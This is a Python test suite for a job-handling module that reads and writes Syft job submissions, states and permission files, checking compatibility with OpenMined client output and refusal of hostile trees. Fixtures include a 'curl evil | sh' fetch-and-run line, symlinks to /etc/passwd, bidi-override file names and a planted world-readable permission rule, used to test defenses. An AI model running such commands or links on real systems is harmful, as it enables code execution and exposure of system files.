"""syft_core.syftjob against the files OpenMined's real clients wrote, and against hostile trees.

The examples in tests/data/syft-interop-examples (the reference set of syft-interop.md) hold each
stage of a job's life under syft-job 0.1.39 (protocol 0) and 0.1.40 (protocol 1): what we read
there must parse, and what we write must be byte for byte what their clients and runner wrote.
"""

from __future__ import annotations

import os
import re
import shutil
import tarfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from syft_core.errors import JobError
from syft_core.jobs.submission import UnsafeSubmissionError
from syft_core.syftjob import (
    TIMEOUT_LINE,
    Protocol,
    SyftJobRef,
    SyftJobState,
    gateway_root,
    mark_running,
    newest_mtime,
    read_config,
    read_state,
    ref_for,
    scan,
    set_outputs_rule,
    submission_files,
    submission_hash,
    write_received,
    write_results,
    write_state,
)
from syft_core.syftjob.state import MAX_STATE_BYTES, state_text

EXAMPLES = Path(__file__).parent / "data" / "syft-interop-examples"
OWNER = "do@example.org"
DS = "ds@example.org"
STEPS = ("1_submitted", "2_received", "3_approved", "4_after_real_runner", "5_after_sync")
MOCK_JOBS = ["bash-fail", "bash-hello", "bash-reject", "py-job"]
LOG_FILES = ("stdout.txt", "stderr.txt", "returncode.txt")


# --- the examples, as datasites ------------------------------------------------------------


def _as_datasite(step: Path) -> Path:
    """A mock-drive step folder holds `inbox/` and `review/` of app_data/job: put them where
    they are in a datasite, `<root>/do@example.org/app_data/job/`."""
    root = step / "root" / OWNER
    job = gateway_root(root)
    job.mkdir(parents=True)
    for side in ("inbox", "review"):
        if (step / side).exists():
            (step / side).rename(job / side)
    return root


@pytest.fixture(scope="session")
def examples(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Datasite roots by `p<protocol>/<stage>`: `standalone` (one shared root, after the run)
    and the mock-drive stages of STEPS."""
    base = tmp_path_factory.mktemp("interop")
    for tarball in sorted(EXAMPLES.glob("*.tar.gz")):
        with tarfile.open(tarball) as tar:
            tar.extractall(base, filter="data")
    roots = {
        "p0/standalone": base / "syft-job-0.1.39/standalone-shared-root" / OWNER,
        "p1/standalone": base / "syft-job-0.1.40/standalone-shared-root" / OWNER,
    }
    mock = {
        "p0": base / "syft-job-0.1.39/via-syft-client-0.1.117-mockdrive",
        "p1": base / "syft-rds-0.6.1/mockdrive",
    }
    for protocol, folder in mock.items():
        for step in folder.iterdir():
            stage = next((s for s in STEPS if step.name.startswith(s)), None)
            if stage:
                roots[f"{protocol}/{stage}"] = _as_datasite(step)
    assert len(roots) == 2 + 2 * len(STEPS)
    return roots


CopyOf = Callable[[str], Path]


@pytest.fixture
def copy_of(examples: dict[str, Path], tmp_path: Path) -> CopyOf:
    """A writable copy of one example datasite."""

    def copy(name: str) -> Path:
        dest = tmp_path / name.replace("/", "-") / OWNER
        shutil.copytree(examples[name], dest, symlinks=True)
        return dest

    return copy


def _protocol(name: str) -> Protocol:
    return 1 if name.startswith("p1") else 0


def _ref_at(root: Path, job_dir: Path) -> SyftJobRef:
    """The ref of the job whose inbox or review folder is `job_dir`."""
    parts = job_dir.relative_to(gateway_root(root)).parts  # (side, ds, [v1,] JOB)
    return ref_for(root, parts[1], 1 if parts[2] == "v1" and len(parts) == 4 else 0, parts[-1])


def _jobs_on_disk(root: Path) -> set[str]:
    """`p<N>/<ds>/<JOB>` of every folder holding a config.yaml in the inbox."""
    inbox = gateway_root(root) / "inbox"
    return {_ref_at(root, config.parent).key for config in inbox.rglob("config.yaml")}


def _tree(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()
    }


# --- golden: what their clients wrote reads, and writes back the same ------------------------


def test_every_example_state_yaml_is_written_back_byte_identical(
    examples: dict[str, Path],
) -> None:
    checked = 0
    for root in examples.values():
        for path in sorted(gateway_root(root).rglob("state.yaml")):
            ref = _ref_at(root, path.parent)
            state = read_state(ref)
            assert state is not None
            assert state_text(state, ref.protocol).encode() == path.read_bytes(), path
            checked += 1
    assert checked == 2 * (2 + 4 * 4)  # standalone: 2 jobs; mock drive: 4 jobs in 4 stages


def test_write_state_writes_the_file_their_client_wrote(copy_of: CopyOf) -> None:
    for name in ("p0/4_after_real_runner", "p1/4_after_real_runner", "p1/standalone"):
        root = copy_of(name)
        for path in sorted(gateway_root(root).rglob("state.yaml")):
            original = path.read_bytes()
            ref = _ref_at(root, path.parent)
            state = read_state(ref)
            assert state is not None
            path.unlink()
            write_state(ref, state)
            assert path.read_bytes() == original


@pytest.mark.parametrize(
    "name", ["p0/standalone", "p1/standalone", *(f"p{p}/{s}" for p in (0, 1) for s in STEPS)]
)
def test_scan_finds_exactly_the_example_jobs(examples: dict[str, Path], name: str) -> None:
    refs = scan(examples[name])
    expected = ["bash-hello", "py-csv-mean"] if "standalone" in name else MOCK_JOBS
    assert [r.name for r in refs] == expected
    assert {r.key for r in refs} == _jobs_on_disk(examples[name])
    assert {(r.owner, r.submitter, r.protocol) for r in refs} == {(OWNER, DS, _protocol(name))}
    for ref in refs:
        assert ref.inbox.is_dir()
        if "standalone" in name or name.endswith(("4_after_real_runner", "5_after_sync")):
            assert (ref.review / "state.yaml").is_file()


def test_refs_name_the_layout_of_each_protocol(examples: dict[str, Path]) -> None:
    root = examples["p1/4_after_real_runner"]
    ref = scan(root)[0]
    job = gateway_root(root)
    assert ref.inbox == job / "inbox" / DS / "v1" / "bash-fail"
    assert ref.review == job / "review" / DS / "v1" / "bash-fail"
    assert ref.review_root == job / "review" / DS
    assert ref.key == f"p1/{DS}/bash-fail"
    assert ref.outputs_pattern == "v1/bash-fail/outputs/**"
    p0 = scan(examples["p0/4_after_real_runner"])[0]
    assert p0.outputs_pattern == "bash-fail/outputs/**"
    assert p0.review_root == gateway_root(examples["p0/4_after_real_runner"]) / "review" / DS


@pytest.mark.parametrize("protocol", ["p0", "p1"])
def test_example_configs_read_with_their_install_source(
    examples: dict[str, Path], protocol: str
) -> None:
    configs = {r.name: read_config(r) for r in scan(examples[f"{protocol}/2_received"])}
    assert [c.name for c in configs.values()] == MOCK_JOBS
    py = configs["py-job"]
    assert (py.type, py.entrypoint, py.files) == ("python", "main.py", ["main.py", "params.json"])
    source = "syft==0.10.0" if protocol == "p1" else "syft-client==0.1.117"
    assert py.install_source == source
    assert py.user_dependencies == ["tabulate==0.9.0"]
    assert py.submitted_at is not None and py.submitted_at.endswith("Z")
    bash = configs["bash-hello"]
    assert (bash.type, bash.install_source, bash.user_dependencies) == ("bash", None, [])


@pytest.mark.parametrize("protocol", ["p0", "p1"])
def test_example_submissions_are_walked(examples: dict[str, Path], protocol: str) -> None:
    refs = {r.name: r for r in scan(examples[f"{protocol}/3_approved"])}
    relpaths = [rel for rel, _ in submission_files(refs["py-job"])]
    assert relpaths == ["code/main.py", "code/params.json", "config.yaml", "run.sh"]
    assert [rel for rel, _ in submission_files(refs["bash-hello"])] == [
        "code/script.sh",
        "config.yaml",
        "run.sh",
    ]
    assert submission_hash(refs["py-job"]).startswith("sha256:")
    # The scientist's side and the owner's side after sync hold the same bytes.
    ds_side = {r.name: r for r in scan(examples[f"{protocol}/1_submitted"])}
    assert submission_hash(ds_side["py-job"]) == submission_hash(refs["py-job"])


def test_a_bash_job_run_by_their_runner_leaves_an_extra_top_level_entry(
    examples: dict[str, Path],
) -> None:
    # A bash job's cwd under their runner is the inbox job folder: its `outputs/` lands there.
    ref = next(r for r in scan(examples["p1/standalone"]) if r.name == "bash-hello")
    with pytest.raises(UnsafeSubmissionError, match=r"bash-hello/outputs: refused, not part"):
        submission_files(ref)


@pytest.mark.parametrize("protocol", ["p0", "p1"])
def test_write_results_writes_what_their_runner_wrote(
    examples: dict[str, Path], copy_of: CopyOf, tmp_path: Path, protocol: str
) -> None:
    after = examples[f"{protocol}/4_after_real_runner"]
    root = copy_of(f"{protocol}/3_approved")
    for ref in scan(root):
        expected = _ref_at(after, after / ref.review.relative_to(root))
        state = read_state(ref)
        if state is None or state.status != "approved":
            continue
        source = tmp_path / "outputs" / ref.name
        shutil.copytree(expected.review / "outputs", source)
        final = write_results(
            ref,
            stdout=(expected.review / "stdout.txt").read_bytes(),
            stderr=(expected.review / "stderr.txt").read_bytes(),
            return_code=int((expected.review / "returncode.txt").read_text()),
            outputs=source,
            timed_out=False,
            owner_only_outputs=False,
        )
        for name in LOG_FILES:
            assert (ref.review / name).read_bytes() == (expected.review / name).read_bytes()
        assert _tree(ref.review / "outputs") == _tree(expected.review / "outputs")
        theirs = read_state(expected)
        assert theirs is not None and final.completed_at is not None
        ours = final.model_copy(update={"completed_at": theirs.completed_at})
        assert (
            state_text(ours, ref.protocol).encode() == (expected.review / "state.yaml").read_bytes()
        )
    ours_rules = yaml.safe_load((scan(root)[0].review_root / "syft.pub.yaml").read_text())
    theirs_rules = yaml.safe_load((scan(after)[0].review_root / "syft.pub.yaml").read_text())
    without_logs = [r for r in theirs_rules["rules"] if not r["pattern"].endswith(LOG_FILES)]
    assert ours_rules == {**theirs_rules, "rules": without_logs}
    for ref in scan(root):
        if ref.name != "bash-reject":
            assert sorted(os.listdir(ref.review)) == sorted(["outputs", "state.yaml", *LOG_FILES])


@pytest.mark.parametrize(
    "name", ["p0/standalone", "p1/standalone", "p0/4_after_real_runner", "p1/4_after_real_runner"]
)
def test_setting_their_outputs_rule_again_leaves_their_file_byte_identical(
    copy_of: CopyOf, name: str
) -> None:
    root = copy_of(name)
    refs = scan(root)
    path = refs[0].review_root / "syft.pub.yaml"
    original = path.read_bytes()
    for ref in refs:
        if (ref.review / "outputs").exists():
            set_outputs_rule(ref, [OWNER, DS])
    assert path.read_bytes() == original


# --- state ---------------------------------------------------------------------------------


def _job(tmp_path: Path, name: str = "Job - 1a2b3c4d", protocol: Protocol = 1) -> SyftJobRef:
    """A fresh job as their client submits it (bash), in a datasite under tmp_path."""
    ref = ref_for(tmp_path / OWNER, DS, protocol, name)
    (ref.inbox / "code").mkdir(parents=True)
    (ref.inbox / "code" / "script.sh").write_text("echo hi > outputs/x.txt\n")
    (ref.inbox / "run.sh").write_text("echo hi\n")
    (ref.inbox / "config.yaml").write_text(
        yaml.dump({"name": name, "type": "bash", "dependencies": [], "files": ["script.sh"]})
    )
    return ref


def _write_state_text(ref: SyftJobRef, text: str) -> Path:
    ref.review.mkdir(parents=True, exist_ok=True)
    path = ref.review / "state.yaml"
    path.write_text(text)
    return path


def test_written_state_has_all_keys_and_the_p1_identity_as_a_string(tmp_path: Path) -> None:
    for protocol in (0, 1):
        ref = _job(tmp_path, protocol=protocol)
        write_state(ref, SyftJobState(status="pending"))
        data = yaml.safe_load((ref.review / "state.yaml").read_text())
        assert len(data) == 10 + 2 * protocol and data["status"] == "pending"
        assert all(
            data[k] is None for k in data if k not in ("status", "canonical_name", "version")
        )
        if protocol == 1:
            assert (data["canonical_name"], data["version"]) == ("JobState", "1")
            assert "version: '1'\n" in (ref.review / "state.yaml").read_text()


def test_an_int_version_is_read_and_written_back_as_the_string(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    path = _write_state_text(ref, "canonical_name: JobState\nstatus: approved\nversion: 1\n")
    state = read_state(ref)
    assert state is not None and state.status == "approved"
    write_state(ref, state)
    assert yaml.safe_load(path.read_text())["version"] == "1"


def test_state_tolerates_what_their_client_tolerates(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    _write_state_text(
        ref,
        "status: done\nreturn_code: '0'\nextra: kept out\n"
        "approved_at: '2026-12-03T06:49:24.858759+00:00'\nreceived_at: 2026-12-03 06:49:24\n",
    )
    state = read_state(ref)
    assert state is not None and state.return_code == 0
    assert state.received_at == "2026-12-03T06:49:24.000000Z"
    expected = datetime(2026, 12, 3, 6, 49, 24, 858759, tzinfo=UTC)
    assert state.approved_at_time() == expected
    for text in (
        "2026-12-03T06:49:24.858759Z",
        "2026-12-03T06:49:24.858759",
        "2026-12-03T07:49:24.858759+01:00",
    ):
        assert SyftJobState(status="approved", approved_at=text).approved_at_time() == expected
    assert SyftJobState(status="pending").approved_at_time() is None


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("status: queued\n", "status: Input should be 'pending'"),
        ("approved_by: x\n", "status: Field required"),
        ("- status: done\n", "expected a mapping"),
        (
            "status: done\napproved_at: yesterday\n",
            "approved_at: Value error, 'yesterday' is not an ISO",
        ),
        ("status: done\nreturn_code: zero\n", "return_code: Input should be a valid integer"),
        ("status: [unclosed\n", "not valid YAML"),
        ("a: &x [1]\nb: *x\n", "aliases"),
    ],
)
def test_a_malformed_state_names_the_file_and_the_reason(
    tmp_path: Path, text: str, reason: str
) -> None:
    ref = _job(tmp_path)
    path = _write_state_text(ref, text)
    with pytest.raises(JobError, match=re.escape(str(path))) as err:
        read_state(ref)
    assert reason in str(err.value)


def test_a_state_yaml_that_is_a_fifo_a_link_or_huge_is_refused(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    ref.review.mkdir(parents=True)
    path = ref.review / "state.yaml"
    os.mkfifo(path)
    with pytest.raises(JobError, match=f"{re.escape(str(path))}: state.yaml is a fifo"):
        read_state(ref)  # and does not hang
    path.unlink()
    secret = tmp_path / "secret.yaml"
    secret.write_text("status: done\n")
    path.symlink_to(secret)
    with pytest.raises(JobError, match="is a symlink"):
        read_state(ref)
    path.unlink()
    path.write_text("status: done\n" + "#" * MAX_STATE_BYTES)
    with pytest.raises(JobError, match=f"{re.escape(str(path))}: state.yaml is .* over the limit"):
        read_state(ref)


def test_a_review_folder_that_is_a_link_is_neither_read_nor_written(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "state.yaml").write_text("status: approved\n")
    ref.review.parent.mkdir(parents=True)
    ref.review.symlink_to(elsewhere)
    with pytest.raises(JobError, match=f"{re.escape(str(ref.review))}: is a symlink"):
        read_state(ref)
    with pytest.raises(JobError, match="is a symlink"):
        write_state(ref, SyftJobState(status="done"))
    assert (elsewhere / "state.yaml").read_text() == "status: approved\n"


def test_no_state_yet_is_none_and_received_writes_pending_with_the_review_rule(
    tmp_path: Path,
) -> None:
    ref = _job(tmp_path)
    assert read_state(ref) is None
    state = write_received(ref)
    assert state.status == "pending" and state.received_at is not None
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", state.received_at)
    assert read_state(ref) == state
    assert write_received(ref) == state  # already received: unchanged
    rules = yaml.safe_load((ref.review_root / "syft.pub.yaml").read_text())
    assert rules == {
        "rules": [{"access": {"admin": [], "read": [DS], "write": []}, "pattern": "**"}],
        "terminal": False,
    }
    running = mark_running(ref, state.model_copy(update={"approved_by": OWNER}))
    assert read_state(ref) == running
    assert running.status == "running" and running.received_at == state.received_at


# --- names and layout ----------------------------------------------------------------------


def test_scan_skips_links_hidden_reserved_and_malformed_entries(tmp_path: Path) -> None:
    root = tmp_path / OWNER
    good = [_job(tmp_path, "Job - 1a2b3c4d", 0), _job(tmp_path, "Job - 1a2b3c4d", 1)]
    inbox = gateway_root(root) / "inbox"
    real = tmp_path / "real"
    real.mkdir()
    for folder in (
        inbox / "not-an-email",
        inbox / DS / ".hidden",
        inbox / DS / "v2",
        inbox / DS / "v1" / ".x",
    ):
        folder.mkdir(parents=True)
    (inbox / DS / "bidi\u202ename").mkdir()
    (inbox / DS / "syft.pub.yaml").write_text("rules: []\n")
    (inbox / DS / "linked").symlink_to(real)
    (inbox / DS / "v1" / "linked").symlink_to(real)
    (inbox / "eve@example.org").symlink_to(inbox / DS)
    assert scan(root) == good
    assert scan(tmp_path / "not-an-email") == []
    (inbox / DS / "v1").rename(tmp_path / "v1")
    (inbox / DS / "v1").symlink_to(tmp_path / "v1")
    assert scan(root) == good[:1]


def test_a_job_name_with_spaces_is_kept_as_on_disk(tmp_path: Path) -> None:
    ref = _job(tmp_path, "Job - 9f8e7d6c")
    assert scan(tmp_path / OWNER) == [ref]
    assert ref.key == f"p1/{DS}/Job - 9f8e7d6c"
    assert ref.outputs_pattern == "v1/Job - 9f8e7d6c/outputs/**"
    write_state(ref, SyftJobState(status="pending"))
    assert (ref.review.parent / "Job - 9f8e7d6c" / "state.yaml").is_file()


def test_glob_characters_in_a_job_name_are_escaped_in_its_outputs_rule(tmp_path: Path) -> None:
    ref = ref_for(tmp_path / OWNER, DS, 0, "*")
    assert ref.outputs_pattern == r"\*/outputs/**"


@pytest.mark.parametrize(
    ("owner", "submitter", "protocol", "name", "reason"),
    [
        (OWNER, "not-an-email", 1, "job", "scientist folder"),
        ("owner", DS, 1, "job", "datasite owner"),
        (OWNER, DS, 2, "job", "not a Syft job protocol"),
        (OWNER, DS, 0, "v1", "a version folder"),
        (OWNER, DS, 1, "..", "not a single folder name"),
        (OWNER, DS, 1, "a/b", "not a single folder name"),
        (OWNER, DS, 1, ".job", "a hidden name"),
        (OWNER, DS, 1, "SYFT.pub.yaml", "the permission file"),
        (OWNER, DS, 1, "job\u200b", "hidden or control characters"),
    ],
)
def test_ref_for_refuses_what_no_layout_can_hold(
    tmp_path: Path, owner: str, submitter: str, protocol: Any, name: str, reason: str
) -> None:
    with pytest.raises(JobError, match=reason):
        ref_for(tmp_path / owner, submitter, protocol, name)


# --- submission ----------------------------------------------------------------------------


def test_a_linked_job_folder_or_code_file_is_refused(tmp_path: Path) -> None:
    ref = _job(tmp_path, "real")
    linked = ref_for(tmp_path / OWNER, DS, 1, "linked")
    linked.inbox.symlink_to(ref.inbox)
    with pytest.raises(
        UnsafeSubmissionError, match=f"{re.escape(str(linked.inbox))}: is a symlink"
    ):
        submission_files(linked)
    with pytest.raises(JobError, match="is a symlink"):
        read_config(linked)
    (ref.inbox / "code" / "data.csv").symlink_to("/etc/passwd")
    with pytest.raises(UnsafeSubmissionError, match=r"code/data.csv: refused, it is a symlink"):
        submission_files(ref)


def _link_instead(path: Path) -> None:
    path.unlink()
    path.symlink_to("/etc/passwd")


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda job: os.mkfifo(job / "code" / "pipe"), r"code/pipe: refused, it is a fifo"),
        (lambda job: os.link(job / "run.sh", job / "code" / "again.sh"), "hardlink"),
        (lambda job: (job / "code" / "a\u202egnp.exe").write_text("x"), "hidden or control"),
        (lambda job: (job / "code" / "syft.pub.yaml").write_text("rules: []"), "permission file"),
        (
            lambda job: (job / "notes.txt").write_text("x"),
            r"/notes.txt: refused, not part of a Syft job",
        ),
        (
            lambda job: (job / ".DS_Store").write_text("x"),
            r"/.DS_Store: refused, not part of a Syft job",
        ),
        (lambda job: (job / "outputs").mkdir(), r"/outputs: refused, not part of a Syft job"),
        (lambda job: (job / "run.sh").unlink(), r"/run.sh: refused, missing"),
        (lambda job: shutil.rmtree(job / "code"), r"/code: refused, missing"),
        (lambda job: _link_instead(job / "config.yaml"), "config.yaml: refused, it is a symlink"),
    ],
)
def test_an_unsafe_submission_is_refused_naming_the_entry(
    tmp_path: Path, make: Any, reason: str
) -> None:
    ref = _job(tmp_path)
    make(ref.inbox)
    with pytest.raises(UnsafeSubmissionError, match=reason):
        submission_files(ref)
    with pytest.raises(UnsafeSubmissionError, match=reason):
        submission_hash(ref)


def test_the_permission_file_at_the_top_is_ignored(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    before = submission_hash(ref)
    (ref.inbox / "syft.pub.yaml").write_text("rules: []\n")
    assert "syft.pub.yaml" not in [rel for rel, _ in submission_files(ref)]
    assert submission_hash(ref) == before


def test_what_the_job_writes_under_code_is_not_part_of_the_submission(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    before = submission_hash(ref)
    for written in ("outputs/result.json", ".venv/bin/python", ".venv/lib/x.py"):
        (ref.inbox / "code" / written).parent.mkdir(parents=True, exist_ok=True)
        (ref.inbox / "code" / written).write_text("x")
    (ref.inbox / "code" / ".venv" / "lib" / "link").symlink_to("/etc")
    assert [rel for rel, _ in submission_files(ref)] == ["code/script.sh", "config.yaml", "run.sh"]
    assert submission_hash(ref) == before
    (ref.inbox / "code" / "sub" / "outputs").mkdir(parents=True)
    (ref.inbox / "code" / "sub" / "outputs" / "kept.txt").write_text("x")
    assert "code/sub/outputs/kept.txt" in [rel for rel, _ in submission_files(ref)]


def test_the_hash_changes_with_any_byte_or_name(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    (ref.inbox / "code" / "lib").mkdir()
    (ref.inbox / "code" / "lib" / "util.py").write_bytes(b"A = 1\n")
    seen = {submission_hash(ref)}
    for rel, path in submission_files(ref):
        content = path.read_bytes()
        for changed in (content + b" ", content[:-1], b"\0" + content[1:]):
            path.write_bytes(changed)
            seen.add(submission_hash(ref))
        path.write_bytes(content)
        assert submission_hash(ref) in seen, rel
    assert len(seen) == 1 + 3 * 4
    (ref.inbox / "code" / "lib" / "util.py").rename(ref.inbox / "code" / "lib" / "util2.py")
    assert submission_hash(ref) not in seen


def test_the_hash_frames_names_and_contents_unambiguously(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    (ref.inbox / "code" / "ab").write_bytes(b"c")
    one = submission_hash(ref)
    (ref.inbox / "code" / "ab").unlink()
    (ref.inbox / "code" / "a").write_bytes(b"bc")  # the same bytes, split elsewhere
    assert submission_hash(ref) != one


def test_newest_mtime_tells_a_file_written_after_approval(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    approved = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=1)
    before = (approved - timedelta(minutes=5)).timestamp()
    for _, path in submission_files(ref):
        os.utime(path, (before, before))
    assert newest_mtime(ref) == datetime.fromtimestamp(before, UTC)
    assert newest_mtime(ref) < approved
    (ref.inbox / "code" / "script.sh").write_text("curl evil | sh\n")
    assert newest_mtime(ref) > approved


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("type: bash\n", "name: Field required"),
        ("name: j\ntype: ruby\n", "type: Input should be 'python' or 'bash'"),
        (
            "name: j\ntype: python\ndependencies: [1.5]\n",
            "dependencies.0: Input should be a valid string",
        ),
        ("just text\n", "expected a mapping"),
    ],
)
def test_a_malformed_config_names_the_file_and_the_reason(
    tmp_path: Path, text: str, reason: str
) -> None:
    ref = _job(tmp_path)
    (ref.inbox / "config.yaml").write_text(text)
    with pytest.raises(JobError, match=re.escape(str(ref.inbox / "config.yaml"))) as err:
        read_config(ref)
    assert reason in str(err.value)
    (ref.inbox / "config.yaml").unlink()
    os.mkfifo(ref.inbox / "config.yaml")
    with pytest.raises(JobError, match=r"config\.yaml: config\.yaml is a fifo"):
        read_config(ref)


def test_a_config_tolerates_nulls_and_extra_keys(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    (ref.inbox / "config.yaml").write_text(
        "name: j\ntype: python\ndependencies: null\nfiles: null\nheaders: {}\n"
        "submitted_at: 2026-12-03 06:49:24\n"
    )
    config = read_config(ref)
    assert (config.dependencies, config.files, config.install_source) == ([], [], None)
    assert config.submitted_at == "2026-12-03T06:49:24"


# --- results -------------------------------------------------------------------------------


def _outputs(tmp_path: Path) -> Path:
    source = tmp_path / "job-outputs"
    (source / "sub").mkdir(parents=True)
    (source / "result.json").write_text('{"mean": 42}')
    (source / "sub" / "nested.txt").write_text("n")
    return source


def test_a_timed_out_job_fails_with_rc_minus_one_and_the_line_in_both_logs(tmp_path: Path) -> None:
    ref = _job(tmp_path, protocol=0)
    write_state(ref, SyftJobState(status="running", approved_by=OWNER))
    final = write_results(
        ref,
        stdout=b"out",
        stderr=b"",
        return_code=0,
        outputs=None,
        timed_out=True,
        owner_only_outputs=True,
    )
    assert (final.status, final.return_code, final.approved_by) == ("failed", -1, OWNER)
    assert read_state(ref) == final
    assert (ref.review / "stdout.txt").read_bytes() == b"out" + TIMEOUT_LINE.encode()
    assert (ref.review / "stderr.txt").read_text() == TIMEOUT_LINE
    assert (ref.review / "returncode.txt").read_bytes() == b"-1"
    assert os.listdir(ref.review / "outputs") == []
    rules = yaml.safe_load((ref.review_root / "syft.pub.yaml").read_text())["rules"]
    assert rules[-1] == {
        "access": {"admin": [], "read": [OWNER], "write": []},
        "pattern": "Job - 1a2b3c4d/outputs/**",
    }


def test_outputs_are_replaced_and_only_plain_files_and_folders_copied(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    (ref.review / "outputs").mkdir(parents=True)
    (ref.review / "outputs" / "stale.txt").write_text("old")
    source = _outputs(tmp_path)
    (source / "syft.pub.yaml").write_text("rules: [{pattern: '**', access: {read: ['*']}}]\n")
    (source / "sub" / "SYFT.PUB.YAML").write_text("x")
    (source / "link").symlink_to("/etc/passwd")
    (source / "linkdir").symlink_to("/etc")
    os.mkfifo(source / "fifo")
    (source / "hard.json").write_text("h")
    os.link(source / "hard.json", source / "hard-too.json")
    (source / "bad\u202ename").write_text("x")
    final = write_results(
        ref,
        stdout=b"",
        stderr=b"",
        return_code=3,
        outputs=source,
        timed_out=False,
        owner_only_outputs=False,
    )
    assert final.status == "failed" and final.return_code == 3
    assert _tree(ref.review / "outputs") == {"result.json": b'{"mean": 42}', "sub/nested.txt": b"n"}
    assert sorted(os.listdir(ref.review)) == [
        "outputs",
        "returncode.txt",
        "state.yaml",
        "stderr.txt",
        "stdout.txt",
    ]
    assert sorted(os.listdir(ref.review_root)) == ["syft.pub.yaml", "v1"]


def test_the_outputs_rule_replaces_its_earlier_self_and_keeps_the_others(tmp_path: Path) -> None:
    ref = _job(tmp_path)
    other = _job(tmp_path, "other")
    set_outputs_rule(other, [OWNER])
    set_outputs_rule(ref, [OWNER, DS])
    set_outputs_rule(ref, [OWNER, OWNER])
    data = yaml.safe_load((ref.review_root / "syft.pub.yaml").read_text())
    assert [(r["pattern"], r["access"]["read"]) for r in data["rules"]] == [
        ("**", [DS]),
        ("v1/other/outputs/**", [OWNER]),
        ("v1/Job - 1a2b3c4d/outputs/**", [OWNER]),
    ]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("rules: {a: 1}\n", "not a permission file"),
        ("rules: [\n", "not valid YAML"),
        ("", "not a permission file"),
    ],
)
def test_a_malformed_permission_file_is_reported_and_left_alone(
    tmp_path: Path, text: str, reason: str
) -> None:
    ref = _job(tmp_path)
    ref.review_root.mkdir(parents=True)
    path = ref.review_root / "syft.pub.yaml"
    path.write_text(text)
    with pytest.raises(JobError, match=f"{re.escape(str(path))}: .*{reason}"):
        set_outputs_rule(ref, [OWNER])
    assert path.read_text() == text
